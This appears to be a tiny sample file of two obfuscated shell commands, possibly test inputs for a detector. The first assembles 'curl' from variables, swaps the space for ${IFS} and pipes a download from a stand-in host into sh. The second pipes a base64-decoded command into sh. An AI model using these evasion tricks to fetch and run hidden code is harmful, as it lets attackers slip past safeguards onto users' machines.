a=cu;b=rl;c=$a$b;d=$c$c$c;$d${IFS}https://a.invalid/x|sh
echo ZWNobyBoZWxsbyB3b3JsZCBoZWxsbw==|base64 -d|sh